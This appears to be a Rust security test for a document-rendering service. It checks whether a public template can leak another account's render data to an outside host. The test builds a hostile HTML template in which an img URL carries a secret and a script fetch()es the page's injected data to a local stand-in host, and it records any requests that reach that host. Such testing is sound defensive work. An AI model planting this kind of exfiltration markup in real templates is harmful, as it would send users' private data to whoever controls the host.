//! A public template in other accounts' jobs: with access to hosts it could send their data to its author.

use reqwest::Method;
use serde_json::{Value, json};

use crate::app::TestApp;
use crate::host::{Host, Reply};
use crate::table::{Outcome, report};
use crate::template::{archive, save_request};

async fn rendered(app: &TestApp, template: &str, target: &str) -> Value {
    let body =
        json!({"type": "html", "target": target, "templateId": template, "data": {"secret": "s3cret"}});
    let (status, job) = app.post("/v1/documents/init", &body).await;
    assert_eq!(status, 200, "{job}");
    app.finish(job["jobId"].as_str().unwrap()).await
}

#[actix::test]
async fn a_public_template_sends_no_callers_data_away() {
    let host = Host::http(|_| Reply::picture()).await;
    let allow = format!("[{}]", host.entry());
    let mut app = TestApp::with(&[("outbound.allow", &allow)]).await;
    let base = format!("http://127.0.0.1:{}", host.port);
    let page = format!(
        "<p>page<img src='{base}/img?<%= locals.secret %>'><script>\
         fetch('{base}/fetch?' + JSON.stringify(window.__PLATEN_DATA__), {{mode: 'no-cors'}}).catch(() => 0)</script>"
    );
    let id = app.unzipped(archive(&[("index.html", &page), ("a.txt", "a")])).await;
    let previews = app.previews(&id).await;
    let mut body = save_request("Public", &previews);
    body["templateInfo"]["permissions"] = json!("public");
    assert_eq!(app.post(&format!("/v1/templates/{id}"), &body).await.0, 204);
    let view = rendered(&app, &id, "pdf").await;
    assert_eq!((&view["success"], &view["warnings"]), (&json!(true), &json!([])), "{view}");
    let own = host.requests().len();
    assert!(
        own > 0 && host.requests().iter().any(|asked| asked.path().contains("s3cret")),
        "its owner's goes out"
    );

    app.command(&["account", "create", "other"]);
    app.token = app.command(&["token", "create", "--account", "other"]);
    let mut outcomes = Vec::new();
    for target in ["pdf", "png", "jpg", "html"] {
        let view = rendered(&app, &id, target).await;
        outcomes.push(outcome(&format!("a render to {target}"), &view, &host, own));
    }
    let previews = app.previews(&id).await;
    for (name, job) in [("a preview as png", previews.png), ("a preview as pdf", previews.pdf)] {
        outcomes.push(outcome(name, &app.ended(&job).await, &host, own));
    }
    report("suite B, a public template rendered by another account (hits on an allowed host)", outcomes);

    let (_, clone) = app.send(Method::POST, &format!("/v1/templates/{id}/clone")).await;
    let clone = clone["newTemplateId"].as_str().unwrap();
    let previews = app.previews(clone).await;
    assert_eq!(app.ended(&previews.pdf).await["success"], true);
    assert!(host.requests().len() > own, "what one has cloned is one's own");
}

fn outcome(name: &str, view: &Value, host: &Host, own: usize) -> Outcome {
    let asked = host.requests();
    let mut leaks: Vec<String> = asked[own..].iter().map(|asked| asked.path().to_owned()).collect();
    let messages = view["warnings"].to_string();
    leaks.extend((view["success"] != true).then(|| view.to_string()));
    leaks.extend(
        (!messages.contains("a public template reaches no hosts"))
            .then(|| format!("nothing is said: {messages}")),
    );
    Outcome { name: name.to_owned(), carrier: "img, fetch".to_owned(), leaks, messages }
}
